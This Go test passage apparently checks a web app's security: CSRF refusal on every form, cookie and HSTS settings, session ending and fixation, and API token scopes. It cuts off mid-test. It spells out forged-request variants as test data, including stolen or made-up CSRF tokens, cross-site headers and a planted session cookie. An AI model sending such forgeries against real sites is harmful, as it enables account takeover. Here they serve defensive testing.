package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/throughline/throughline/adapters/cdevents"
	"github.com/throughline/throughline/adapters/openslo"
	"github.com/throughline/throughline/adapters/sqlstore"
	"github.com/throughline/throughline/domain"
	"github.com/throughline/throughline/web"
)

// The security tests of issue 9 that the older tests in web_test.go and
// routes_test.go leave out. Where they can, they walk Server.Routes()
// rather than a hand list, so that a new route is covered or fails them.

// change is one state-changing request made the way its user makes it:
// a form by a signed-in person, or a JSON call with an API token.
type change struct {
	route  string // as the router lists it: "POST /ideas/:key"
	path   string
	who    string     // the e-mail signed in, or "token:<name>" for the API
	form   url.Values // pages
	body   string     // API
	action string     // the audit entry it must leave
	names  string     // what the entry's target or detail must name
}

// securityToken is the API token the change recipes use.
const securityToken = "ops"

// seedChanges stores what the changes act on and returns one valid change
// for every state-changing route, in an order in which each succeeds. The
// tests check that it covers every POST route the router has.
func seedChanges(t *testing.T, e *env) (changes []change, tokenSecret string) {
	t.Helper()
	ctx := context.Background()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	e.user("admin@example.com", domain.RoleAdmin)
	e.user("editor@example.com", domain.RoleEditor)
	e.user("promoted@example.com", domain.RoleViewer)
	e.user("leaver@example.com", domain.RoleViewer)
	users, err := e.store.Users(ctx)
	must(err)
	userID := map[string]int64{}
	for _, u := range users {
		userID[u.Email] = u.ID
	}
	_, tokenSecret, err = e.store.CreateToken(ctx, securityToken, []domain.Scope{domain.ScopeAdmin})
	must(err)
	old, _, err := e.store.CreateToken(ctx, "old", []domain.Scope{domain.ScopeRead})
	must(err)
	_, err = e.store.StoreEvents(ctx, []domain.EventRecord{{Raw: []byte(`{}`), Event: domain.Event{
		Identity: domain.Identity{Source: "/cd", ID: "d1"}, Type: "dev.cdevents.service.deployed.0.3.0", Kind: domain.KindServiceDeployed,
		Time: time.Now().Add(-24 * time.Hour).UTC(), SubjectID: "checkout", Service: "checkout", Environment: "production",
		Artifact: "a1", Team: "payments", Ideas: []string{"CHK-1"}}}}) // CHK-1 in production: a verdict can be recorded
	must(err)
	_, err = e.store.StoreEvents(ctx, []domain.EventRecord{{Raw: []byte(`{}`), Event: domain.Event{
		Identity: domain.Identity{Source: "/pager", ID: "i1"}, Type: "dev.cdevents.incident.detected.0.3.0", Kind: domain.KindIncidentDetected,
		Time: time.Now().Add(-time.Hour).UTC(), SubjectID: "INC-1", Service: "checkout", Environment: "production"}}}) // a review to write
	must(err)
	_, err = e.store.CreateIdea(ctx, domain.Idea{Key: "CHK-1", Title: "One-page checkout", Horizon: domain.HorizonNext, FlowType: domain.FlowFeature}, "seed")
	must(err)
	obj, err := e.store.CreateObjective(ctx, domain.Objective{Title: "Checkout converts"}, "seed")
	must(err)
	vs, err := e.store.CreateValueStream(ctx, domain.ValueStream{Name: "Seeded", Stages: domain.DefaultStages()}, "seed")
	must(err)
	slo, err := e.store.CreateSLO(ctx, domain.SLO{Name: "checkout-availability", Service: "checkout", Good: domain.MetricQuery{Metric: "http.requests.good"},
		Total: domain.MetricQuery{Metric: "http.requests"}, Target: 0.999, WindowDays: 28}, "seed")
	must(err)
	sloYAML, err := openslo.Marshal([]domain.SLO{{Name: "search-availability", Service: "search", Good: domain.MetricQuery{Metric: "ok"},
		Total: domain.MetricQuery{Metric: "all"}, Target: 0.99, WindowDays: 28}})
	must(err)

	const editor, admin, token = "editor@example.com", "admin@example.com", "token:" + securityToken
	vsPath := "/value-streams/" + strconv.FormatInt(vs.ID, 10)
	sloPath := "/slos/" + strconv.FormatInt(slo.ID, 10)
	idea := url.Values{"title": {"One-page checkout"}, "horizon": {"next"}, "flow_type": {"feature"}}
	newIdea := url.Values{"key": {"CHK-2"}, "title": {"Saved cards"}, "horizon": {"later"}, "flow_type": {"feature"}}
	sloForm := url.Values{"name": {"checkout-latency"}, "service": {"checkout"}, "good_metric": {"fast"}, "total_metric": {"all"},
		"target": {"99"}, "window": {"28"}}
	return []change{
		{"POST /services/team", "/services/team", editor, url.Values{"service": {"checkout"}, "team": {"checkout-squad"}}, "", "service.team", "checkout"},
		{"POST /dora/override", "/dora/override", editor, url.Values{"source": {"/cd"}, "id": {"d1"}, "verdict": {"failed"}, "reason": {"broke search"}}, "", "deployment.override", "d1"},
		{"POST /ideas", "/ideas", editor, newIdea, "", "idea.create", "CHK-2"},
		{"POST /ideas/:key", "/ideas/CHK-1", editor, idea, "", "idea.update", "CHK-1"},
		{"POST /ideas/:key/move", "/ideas/CHK-1/move", editor, url.Values{"horizon": {"now"}}, "", "idea.move", "CHK-1"},
		{"POST /ideas/:key/verdict", "/ideas/CHK-1/verdict", editor, url.Values{"verdict": {"validated"}, "note": {"up 2%"}}, "", "idea.verdict", "CHK-1"},
		{"POST /ideas/:key/archive", "/ideas/CHK-1/archive", editor, url.Values{"archived": {"true"}}, "", "idea.archive", "CHK-1"},
		{"POST /outcomes/objectives", "/outcomes/objectives", editor, url.Values{"title": {"Search finds"}}, "", "objective.create", "Search finds"},
		{"POST /outcomes/key-results", "/outcomes/key-results", editor, url.Values{"objective": {strconv.FormatInt(obj.ID, 10)}, "title": {"Conversion up"},
			"metric": {"checkout.conversion"}, "baseline": {"0.03"}, "target": {"0.04"}, "direction": {"increase"}}, "", "keyresult.create", "Conversion up"},
		{"POST /value-streams", "/value-streams", editor, streamForm("Checkout"), "", "valuestream.create", "Checkout"},
		{"POST /value-streams/:id", vsPath, editor, streamForm("Seeded, renamed"), "", "valuestream.update", "Seeded, renamed"},
		{"POST /value-streams/:id/delete", vsPath + "/delete", editor, url.Values{}, "", "valuestream.delete", "Seeded, renamed"},
		{"POST /slos", "/slos", editor, sloForm, "", "slo.create", "checkout-latency"},
		{"POST /slos/:id", sloPath, editor, url.Values{"name": {"checkout-availability"}, "service": {"checkout"}, "good_metric": {"ok"},
			"total_metric": {"all"}, "target": {"99.5"}, "window": {"30"}}, "", "slo.update", "checkout-availability"},
		{"POST /slos/import", "/slos/import", editor, url.Values{"yaml": {string(sloYAML)}}, "", "slo.import", "1 created"},
		{"POST /slos/:id/delete", sloPath + "/delete", editor, url.Values{}, "", "slo.delete", "checkout-availability"},
		{"POST /settings/users", "/settings/users", admin, url.Values{"email": {"new@example.com"}, "role": {"viewer"}}, "", "user.create", "new@example.com"},
		{"POST /settings/users/:id/role", fmt.Sprintf("/settings/users/%d/role", userID["promoted@example.com"]), admin, url.Values{"role": {"editor"}}, "", "user.role", "promoted@example.com"},
		{"POST /settings/users/:id/delete", fmt.Sprintf("/settings/users/%d/delete", userID["leaver@example.com"]), admin, url.Values{}, "", "user.delete", "leaver@example.com"},
		{"POST /settings/tokens", "/settings/tokens", admin, url.Values{"name": {"grafana"}, "scope": {"read"}}, "", "token.create", "grafana"},
		{"POST /settings/tokens/:id/revoke", fmt.Sprintf("/settings/tokens/%d/revoke", old.ID), admin, url.Values{}, "", "token.revoke", "old"},
		{"POST /settings/dead-letters/:id/replay", "/settings/dead-letters/7/replay", admin, url.Values{}, "", "deadletter.replay", "7"},
		{"POST /api/v1/dead-letters/:id/replay", "/api/v1/dead-letters/8/replay", token, nil, "", "deadletter.replay", "8"},
		{"POST /incidents/:id/review", "/incidents/INC-1/review", editor, url.Values{"status": {"draft"}, "summary": {"Checkout failed"}}, "", "review.save", "INC-1"},
		{"POST /incidents/:id/review/actions", "/incidents/INC-1/review/actions", editor, url.Values{"title": {"Add a canary"}}, "", "review.action.add", "INC-1"},
		{"POST /incidents/:id/review/actions/:n/idea", "/incidents/INC-1/review/actions/1/idea", editor,
			url.Values{"key": {"REL-1"}, "title": {"Canary"}, "horizon": {"next"}, "flow_type": {"risk"}}, "", "review.action.idea", "INC-1"},
		{"POST /incidents/:id/review/actions/:n/done", "/incidents/INC-1/review/actions/1/done", editor, url.Values{"done": {"true"}}, "", "review.action.done", "INC-1"},
		{"POST /api/v1/deployments/override", "/api/v1/deployments/override", token, nil,
			`{"source": "/cd", "id": "d1", "failed": false, "reason": "not ours"}`, "deployment.override", "d1"},
	}, tokenSecret
}

// alsoAudited are the entries a change leaves beside its own, because it
// changes two records: an action item put on the roadmap creates the idea
// (idea.create, as any new idea) and links the item to it.
var alsoAudited = map[string][]string{
	"POST /incidents/:id/review/actions/:n/idea": {"idea.create"},
}

// unaudited are the POST routes that change no shared data, or whose data
// is its own record, and so leave no audit entry.
var unaudited = map[string]string{
	"POST /signin":                 "signing in changes nothing; attempts are logged and rate limited",
	"POST /signout":                "ends only the caller's own session",
	"POST /api/v1/events":          "ingested events are themselves the stored, immutable record",
	"POST /v1/metrics":             "OTLP samples become ingested events, themselves the stored, immutable record",
	"POST /api/v1/annotations":     "a query in a body (Grafana's JSON datasource); it reads, changes nothing",
	"POST /webhooks/github":        "authenticated by the delivery's signature; the events it makes are the stored record",
	"POST /webhooks/gitlab":        "authenticated by the delivery's token; the events it makes are the stored record",
	"POST /webhooks/flagger":       "authenticated by the rollout webhook token (header or URL); the events it makes are the stored record",
	"POST /webhooks/argo-rollouts": "authenticated by the rollout webhook token (header or URL); the events it makes are the stored record",
}

// streamForm is the value stream form with the default stages.
func streamForm(name string) url.Values {
	f := url.Values{"name": {name}, "teams": {""}, "services": {""}}
	for i, st := range domain.DefaultStages() {
		p := "stage." + strconv.Itoa(i) + "."
		f.Set(p+"order", strconv.Itoa(i+1))
		f.Set(p+"name", st.Name)
		f.Set(p+"kind", string(st.Kind))
		f.Set(p+"rule", domain.RuleText(st.Rule))
	}
	return f
}

// checkCoversEveryPost fails unless the changes and the unaudited list
// together name every POST route of the router.
func checkCoversEveryPost(t *testing.T, e *env, changes []change) {
	t.Helper()
	have := map[string]bool{}
	for _, c := range changes {
		have[c.route] = true
	}
	for _, r := range e.server.Routes() {
		id := r.Method + " " + r.Path
		if tokenRoute(r.Path) && r.Method != http.MethodGet && scopeNeeded(t, r) == domain.ScopeWrite {
			continue // the write API takes tokens, not forms; its audit: TestWriteAPI* (write_api_test.go)
		}
		if r.Method == http.MethodPost && !have[id] && unaudited[id] == "" {
			t.Errorf("%s: no change recipe in seedChanges and not listed in unaudited", id)
		}
	}
}

// csrfOf returns the CSRF field of the forms a client's pages carry.
func (e *env) csrfOf(c *http.Client) string {
	e.t.Helper()
	_, page := e.get(c, "/")
	token, ok := page.Find(`input[name="_csrf"]`).First().Attr("value")
	if !ok || token == "" {
		e.t.Fatal("no CSRF field on /")
	}
	return token
}

// withCSRF copies a form and adds the CSRF field, unless token is empty.
func withCSRF(form url.Values, token string) url.Values {
	v := url.Values{}
	for k, vs := range form {
		v[k] = vs
	}
	if token != "" {
		v.Set("_csrf", token)
	}
	return v
}

// snapshot is everything a change could touch, to compare before and after.
func snapshot(t *testing.T, e *env) string {
	t.Helper()
	ctx := context.Background()
	var parts []any
	add := func(v any, err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		parts = append(parts, v)
	}
	add(e.store.Users(ctx))
	add(e.store.Tokens(ctx))
	add(e.store.Ideas(ctx, domain.IdeaFilter{IncludeArchived: true}))
	add(e.store.Objectives(ctx))
	add(e.store.KeyResults(ctx))
	add(e.store.ValueStreams(ctx))
	add(e.store.SLOs(ctx))
	add(e.store.Services(ctx))
	add(e.store.AuditLog(ctx, 1000))
	b, err := json.Marshal(parts)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// Every form, walked from the router, refuses a post without the CSRF
// token, with a made-up one, with another browser's, with the one the same
// browser had before signing in, with another session's of the same
// account, with the right one in the query string, with a wrong header, and
// from another site even with the right token; and nothing changes.
// The same posts with the token succeed, so the refusals are CSRF's doing.
func TestEveryFormRefusesForgedRequests(t *testing.T) {
	e := newEnv(t, false)
	changes, _ := seedChanges(t, e)
	checkCoversEveryPost(t, e, changes)
	clients := map[string]*http.Client{}
	tokens, before, otherSession := map[string]string{}, map[string]string{}, map[string]string{}
	for _, who := range []string{"admin@example.com", "editor@example.com"} {
		clients[who], before[who] = e.signInFrom(who)
		tokens[who] = e.csrfOf(clients[who])
		// The same account signed in again elsewhere: another session.
		otherSession[who] = e.csrfOf(e.signIn(who))
	}
	e.user("other@example.com", domain.RoleAdmin)
	foreign := e.csrfOf(e.signIn("other@example.com"))
	if foreign == tokens["admin@example.com"] {
		t.Fatal("two browsers share a CSRF token")
	}
	visitor := e.client()
	_, signInPage := e.get(visitor, "/signin")
	visitorToken, _ := signInPage.Find(`input[name="_csrf"]`).Attr("value")

	type forged struct {
		name   string
		field  string // the _csrf form field; "" leaves it out
		header http.Header
		query  string // the _csrf query parameter; "" leaves it out
	}
	attempts := func(own, before, otherSession string) []forged {
		f := []forged{
			{"no token", "", nil, ""},
			{"made-up token", "forged", nil, ""},
			{"another browser's token", foreign, nil, ""},
			{"wrong X-CSRF-Token header", "", http.Header{"X-Csrf-Token": {"forged"}}, ""},
			{"same-site subdomain, no token", "", http.Header{"Sec-Fetch-Site": {"same-site"}}, ""},
			{"cross-site, right token", own, http.Header{"Sec-Fetch-Site": {"cross-site"}}, ""},
			{"right token in the query string", "", nil, own},
			{"same-site subdomain, right token in the query string", "", http.Header{"Sec-Fetch-Site": {"same-site"}}, own},
		}
		if before != "" {
			f = append(f, forged{"the token from before sign-in", before, nil, ""},
				forged{"the same account's other session's token", otherSession, nil, ""},
				forged{"the same account's other session's token as a header", "", http.Header{"X-Csrf-Token": {otherSession}}, ""})
		}
		return f
	}
	refused := func(c *http.Client, what, path string, vals url.Values, own, beforeSignIn, otherSession string) {
		t.Helper()
		for _, f := range attempts(own, beforeSignIn, otherSession) {
			before := snapshot(t, e)
			target := path
			if f.query != "" {
				target += "?_csrf=" + url.QueryEscape(f.query)
			}
			resp, doc := e.post(c, target, withCSRF(vals, f.field), f.header)
			if resp.StatusCode != http.StatusForbidden {
				t.Errorf("%s, %s: %d; want 403", what, f.name, resp.StatusCode)
			} else if doc.Find(`[data-testid="error-page"]`).Length() == 0 {
				t.Errorf("%s, %s: 403 without the error page", what, f.name)
			}
			if after := snapshot(t, e); after != before {
				t.Errorf("%s, %s: a refused request changed data", what, f.name)
			}
			for _, ck := range resp.Cookies() {
				if ck.Name == "throughline_session" && ck.Value != "" {
					t.Errorf("%s, %s: a refused request set a session", what, f.name)
				}
			}
		}
	}

	refused(visitor, "POST /signin", "/signin", url.Values{"email": {"admin@example.com"}, "password": {testPassword}}, visitorToken, "", "")
	admin := "admin@example.com"
	refused(clients[admin], "POST /signout", "/signout", nil, tokens[admin], before[admin], otherSession[admin])
	if resp, _ := e.get(clients["admin@example.com"], "/settings/users"); resp.StatusCode != http.StatusOK {
		t.Fatalf("a forged sign-out ended the session: %d", resp.StatusCode)
	}
	for _, ch := range changes {
		if strings.HasPrefix(ch.path, "/api/") {
			continue
		}
		refused(clients[ch.who], ch.route, ch.path, ch.form, tokens[ch.who], before[ch.who], otherSession[ch.who])
		if resp, doc := e.post(clients[ch.who], ch.path, withCSRF(ch.form, tokens[ch.who]), nil); resp.StatusCode >= 400 {
			t.Errorf("%s with its CSRF token: %d %s", ch.route, resp.StatusCode, doc.Find(`[data-testid="error-page"]`).Text())
		}
	}
}

// The CSRF cookie, like the session's, is HttpOnly and SameSite=Lax; forms
// carry a token derived from it under the server's key, never the cookie's
// value itself (which a planted cookie would then match).
func TestCSRFCookieAttributes(t *testing.T) {
	e := newEnv(t, false)
	resp, doc := e.get(e.client(), "/signin")
	var ck *http.Cookie
	for _, c := range resp.Cookies() {
		if c.Name == "throughline_csrf" {
			ck = c
		}
	}
	if ck == nil {
		t.Fatal("no CSRF cookie on the sign-in page")
	}
	if !ck.HttpOnly || ck.SameSite != http.SameSiteLaxMode || ck.Path != "/" || ck.Secure || len(ck.Value) < 32 {
		t.Errorf("CSRF cookie %+v; want HttpOnly, SameSite=Lax, Path=/, not Secure over plain HTTP, 32+ characters", ck)
	}
	if v, _ := doc.Find(`input[name="_csrf"]`).Attr("value"); len(v) < 32 || v == ck.Value {
		t.Errorf("form token %q: want 32+ characters, not the cookie's value %q", v, ck.Value)
	}
	if !strings.Contains(resp.Header.Get("Vary"), "Cookie") {
		t.Errorf("pages with a CSRF token are not Vary: Cookie")
	}
}

// cookieCase is one way the server is reached.
type cookieCase struct {
	name           string
	tls            bool
	secureCookies  string
	trustProxy     bool
	forwardedProto string
	wantSecure     bool
}

// Every cookie the server sets is HttpOnly and SameSite=Lax; it is Secure
// over TLS, behind a trusted proxy that says https, or when forced, and
// not otherwise: X-Forwarded-Proto from an untrusted client counts for
// nothing. HSTS is sent exactly when cookies are Secure.
func TestCookiesAreSecureWhenTheyShouldBe(t *testing.T) {
	for _, tc := range []cookieCase{
		{"plain HTTP", false, "auto", false, "", false},
		{"TLS", true, "auto", false, "", true},
		{"trusted proxy, https", false, "auto", true, "https", true},
		{"trusted proxy, http", false, "auto", true, "http", false},
		{"untrusted X-Forwarded-Proto", false, "auto", false, "https", false},
		{"secure-cookies=always", false, "always", false, "", true},
		{"secure-cookies=never, TLS", true, "never", false, "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnvWith(t, envOptions{tls: tc.tls, config: func(c *web.Config) {
				c.SecureCookies, c.TrustProxy = tc.secureCookies, tc.trustProxy
			}})
			e.user("admin@example.com", domain.RoleAdmin)
			// Cookies are carried by hand: a cookie jar keeps Secure
			// cookies away from plain HTTP, which a TLS proxy would not.
			jar := map[string]*http.Cookie{}
			send := func(method, path string, form url.Values) (*http.Response, *goquery.Document) {
				t.Helper()
				req, _ := http.NewRequest(method, e.srv.URL+path, strings.NewReader(form.Encode()))
				if method == http.MethodPost {
					req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				}
				if tc.forwardedProto != "" {
					req.Header.Set("X-Forwarded-Proto", tc.forwardedProto)
				}
				for _, ck := range jar {
					req.AddCookie(&http.Cookie{Name: ck.Name, Value: ck.Value})
				}
				c := e.client()
				c.Jar = nil
				resp, err := c.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				defer resp.Body.Close()
				doc, _ := goquery.NewDocumentFromReader(resp.Body)
				if hsts := resp.Header.Get("Strict-Transport-Security") != ""; hsts != tc.wantSecure {
					t.Errorf("%s %s: HSTS sent %v; want %v", method, path, hsts, tc.wantSecure)
				}
				for _, ck := range resp.Cookies() {
					if !ck.HttpOnly || ck.SameSite != http.SameSiteLaxMode || ck.Secure != tc.wantSecure {
						t.Errorf("%s %s: cookie %s HttpOnly=%v SameSite=%v Secure=%v; want HttpOnly, Lax, Secure=%v",
							method, path, ck.Name, ck.HttpOnly, ck.SameSite, ck.Secure, tc.wantSecure)
					}
					jar[ck.Name] = ck
				}
				return resp, doc
			}
			_, page := send(http.MethodGet, "/signin", nil)
			token, _ := page.Find(`input[name="_csrf"]`).Attr("value")
			resp, _ := send(http.MethodPost, "/signin", url.Values{"_csrf": {token}, "email": {"admin@example.com"}, "password": {testPassword}})
			if resp.StatusCode != http.StatusSeeOther || jar["throughline_session"] == nil {
				t.Fatalf("sign-in: %d, cookies %v", resp.StatusCode, resp.Cookies())
			}
			// Sign-in brought a new token, bound to the session.
			_, page = send(http.MethodGet, "/settings/users", nil)
			token, _ = page.Find(`input[name="_csrf"]`).Attr("value")
			// A refused role change sets the flash cookie.
			resp, _ = send(http.MethodPost, "/settings/users/999/role", url.Values{"_csrf": {token}, "role": {"viewer"}})
			if resp.StatusCode != http.StatusSeeOther || jar["throughline_flash"] == nil {
				t.Errorf("flash: %d, cookies %v", resp.StatusCode, resp.Cookies())
			}
		})
	}
}

// sessionOf returns the session cookie a client holds.
func (e *env) sessionOf(c *http.Client) string {
	e.t.Helper()
	u, _ := url.Parse(e.srv.URL)
	for _, ck := range c.Jar.Cookies(u) {
		if ck.Name == "throughline_session" {
			return ck.Value
		}
	}
	e.t.Fatal("no session cookie")
	return ""
}

// withSession is a new browser holding only the given session cookie.
func (e *env) withSession(secret string) *http.Client {
	c := e.client()
	u, _ := url.Parse(e.srv.URL)
	c.Jar.SetCookies(u, []*http.Cookie{{Name: "throughline_session", Value: secret, Path: "/"}})
	return c
}

// A session ends on sign-out and when its user is removed: its cookie,
// kept and sent again, is refused. A role change applies to the running
// session at its next request (the role is read on each one). A session
// secret chosen before sign-in is never kept.
func TestSessionsEndWithSignOutAndRemoval(t *testing.T) {
	// Five sign-ins from one address: more than the test default allows.
	e := newEnvWith(t, envOptions{config: func(c *web.Config) { c.SignInRate = 50 }})
	e.user("admin@example.com", domain.RoleAdmin)
	e.user("pm@example.com", domain.RoleEditor)
	e.user("leaver@example.com", domain.RoleEditor)
	// signedOut sends a kept session cookie again, from new browsers.
	signedOut := func(who, secret string) {
		t.Helper()
		resp, _ := e.get(e.withSession(secret), "/roadmap")
		if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), "/signin") {
			t.Errorf("%s: GET /roadmap with an ended session: %d → %q", who, resp.StatusCode, resp.Header.Get("Location"))
		}
		// Sec-Fetch-Site stands in for the CSRF token, so that the post
		// reaches the session check with the cookie unchanged.
		resp, _ = e.post(e.withSession(secret), "/outcomes/objectives", url.Values{"title": {"x"}}, http.Header{"Sec-Fetch-Site": {"same-origin"}})
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("%s: POST with an ended session: %d; want 401", who, resp.StatusCode)
		}
	}

	pm := e.signIn("pm@example.com")
	kept := e.sessionOf(pm)
	if resp, _ := e.postForm(pm, "/", "/signout", nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign-out: %d", resp.StatusCode)
	}
	signedOut("after sign-out", kept)

	admin := e.signIn("admin@example.com")
	leaver := e.sessionOf(e.signIn("leaver@example.com"))
	users, _ := e.store.Users(context.Background())
	ids := map[string]int64{}
	for _, u := range users {
		ids[u.Email] = u.ID
	}
	if resp, _ := e.postForm(admin, "/settings/users", fmt.Sprintf("/settings/users/%d/delete", ids["leaver@example.com"]), nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("delete: %d", resp.StatusCode)
	}
	signedOut("after removal", leaver)
	if objs, _ := e.store.Objectives(context.Background()); len(objs) != 0 {
		t.Fatalf("an ended session created %d objectives", len(objs))
	}

	// Demoted: the next request already has the new role.
	pm = e.signIn("pm@example.com")
	if resp, _ := e.get(pm, "/ideas/new"); resp.StatusCode != http.StatusOK {
		t.Fatalf("editor GET /ideas/new: %d", resp.StatusCode)
	}
	if resp, _ := e.postForm(admin, "/settings/users", fmt.Sprintf("/settings/users/%d/role", ids["pm@example.com"]), url.Values{"role": {"viewer"}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("demote: %d", resp.StatusCode)
	}
	if resp, _ := e.get(pm, "/ideas/new"); resp.StatusCode != http.StatusForbidden {
		t.Errorf("demoted editor GET /ideas/new: %d; want 403", resp.StatusCode)
	}
	if resp, _ := e.postForm(pm, "/roadmap", "/ideas", url.Values{"key": {"CHK-9"}, "title": {"x"}, "horizon": {"now"}, "flow_type": {"feature"}}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("demoted editor POST /ideas: %d; want 403", resp.StatusCode)
	}

	// Fixation: a cookie planted before sign-in is replaced, and the
	// planted value never becomes a session.
	planted := e.withSession("planted-by-someone-else")
	resp, _ := e.postForm(planted, "/signin", "/signin", url.Values{"email": {"admin@example.com"}, "password": {testPassword}})
	if resp.StatusCode != http.StatusSeeOther || e.sessionOf(planted) == "planted-by-someone-else" {
		t.Errorf("sign-in kept the planted session cookie")
	}
	signedOut("planted cookie", "planted-by-someone-else")
}

// apiDo sends an API request with a bearer token (none when empty).
func apiDo(t *testing.T, e *env, method, path, token, body string) (int, http.Header, string) {
	t.Helper()
	req, _ := http.NewRequest(method, e.srv.URL+path, strings.NewReader(body))
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, string(b)
}

// apiErrorCode reads the code of a JSON error, "" if the body is not one.
func apiErrorCode(body string) string {
	var e struct {
		Error struct{ Code, Message string } `json:"error"`
	}
	if json.Unmarshal([]byte(body), &e) != nil || e.Error.Message == "" {
		return ""
	}
	return e.Error.Code
}

// scopeNeeded says which scope each API route needs: read for reading,
// and for each route that changes something, the scope DESIGN.md names.
// "" is any valid token.
func scopeNeeded(t *testing.T, r web.Route) domain.Scope {
	switch r.Method + " " + r.Path {
	case "GET /api/v1/token":
		return ""
	case "POST /api/v1/events":
		return domain.ScopeIngest
	case "POST /api/v1/annotations":
		return domain.ScopeRead // Grafana's JSON datasource posts its query
	case "POST /api/v1/dead-letters/:id/replay", "POST /api/v1/deployments/override":
		return domain.ScopeAdmin
	}
	if r.Method != http.MethodGet {
		return domain.ScopeWrite // the roadmap's write API (DESIGN.md 5)
	}
	if r.Method != http.MethodGet {
		t.Errorf("%s %s: say in scopeNeeded which scope it needs", r.Method, r.Path)
		return domain.ScopeAdmin
	}
	return domain.ScopeRead
}

// tokenRoute reports whether a path takes API tokens rather than a
// session: the JSON API and the Prometheus scrape.
func tokenRoute(p string) bool { return strings.HasPrefix(p, "/api/") || p == "/metrics" }

// logBuffer collects what the server logs, from any goroutine.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (l *logBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

// Tokens made on the settings page, one per scope, walked over every API
// route of the router: a token without the scope a route needs gets 403
// JSON, one with it gets through; admin grants every scope. Once revoked,
// every route answers 401. The secrets are shown once and never again, and
// neither they nor any password or session reach the server's log.
func TestAPITokensAreScopedRevocableAndNeverShownAgain(t *testing.T) {
	var log logBuffer
	e := newEnvWith(t, envOptions{config: func(c *web.Config) {
		c.Logger = slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	}})
	e.user("admin@example.com", domain.RoleAdmin)
	wrongPassword := "not-the-password-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	if resp, _ := e.postForm(e.client(), "/signin", "/signin", url.Values{"email": {"admin@example.com"}, "password": {wrongPassword}}); resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("wrong password: %d", resp.StatusCode)
	}
	admin := e.signIn("admin@example.com")
	secrets := map[domain.Scope]string{}
	scopes := []domain.Scope{domain.ScopeRead, domain.ScopeIngest, domain.ScopeWrite, domain.ScopeAdmin}
	for _, sc := range scopes {
		resp, doc := e.postForm(admin, "/settings/tokens", "/settings/tokens", url.Values{"name": {"only-" + string(sc)}, "scope": {string(sc)}})
		secrets[sc] = doc.Find(`[data-testid="new-token"] code`).Text()
		if resp.StatusCode != http.StatusCreated || !strings.HasPrefix(secrets[sc], "tl_") {
			t.Fatalf("create %s token: %d %q", sc, resp.StatusCode, secrets[sc])
		}
	}
	_, doc := e.postForm(admin, "/settings/users", "/settings/users", url.Values{"email": {"pm@example.com"}, "role": {"editor"}})
	password := doc.Find(`[data-testid="new-password"] code`).Text()
	if password == "" {
		t.Fatal("no generated password shown")
	}

	routes := 0
	for _, r := range e.server.Routes() {
		if !tokenRoute(r.Path) || !strings.Contains("GET POST PUT PATCH DELETE", r.Method) {
			continue
		}
		routes++
		need := scopeNeeded(t, r)
		for _, sc := range scopes {
			code, _, body := apiDo(t, e, r.Method, concrete(r.Path), secrets[sc], "")
			allowed := need == "" || sc == need || sc == domain.ScopeAdmin || (need == domain.ScopeRead && sc == domain.ScopeWrite)
			switch {
			case allowed && (code == http.StatusUnauthorized || code == http.StatusForbidden):
				t.Errorf("%s %s with a %s token: %d %s; want it let through", r.Method, r.Path, sc, code, body)
			case !allowed && (code != http.StatusForbidden || apiErrorCode(body) != domain.EFORBIDDEN):
				t.Errorf("%s %s with a %s token: %d %s; want 403 JSON", r.Method, r.Path, sc, code, body)
			}
		}
	}
	if routes < 20 {
		t.Fatalf("only %d API routes walked", routes)
	}

	// A browser's session is no credential for the API, so that the API
	// needs no CSRF protection.
	for _, r := range e.server.Routes() {
		if !tokenRoute(r.Path) || !strings.Contains("GET POST PUT PATCH DELETE", r.Method) {
			continue
		}
		req, _ := http.NewRequest(r.Method, e.srv.URL+concrete(r.Path), strings.NewReader(`{}`))
		req.Header.Set("Sec-Fetch-Site", "same-origin")
		resp, err := admin.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("%s %s with an admin's session and no token: %d; want 401", r.Method, r.Path, resp.StatusCode)
		}
	}

	// The secrets appear once, in the answer that made them.
	for _, page := range []string{"/settings/tokens", "/settings/audit", "/settings/users", "/settings"} {
		_, doc := e.get(admin, page)
		html, _ := doc.Html()
		for sc, s := range secrets {
			if strings.Contains(html, s) || strings.Contains(html, s[len(s)-12:]) {
				t.Errorf("%s shows the %s token's secret", page, sc)
			}
		}
		if strings.Contains(html, password) {
			t.Errorf("%s shows the generated password", page)
		}
	}
	for sc, s := range secrets {
		if _, _, body := apiDo(t, e, http.MethodGet, "/api/v1/token", s, ""); strings.Contains(body, s) {
			t.Errorf("/api/v1/token echoes the %s secret", sc)
		}
	}

	// Revoked on the settings page: refused everywhere.
	toks, _ := e.store.Tokens(context.Background())
	for _, tok := range toks {
		secret := secrets[tok.Scopes[0]]
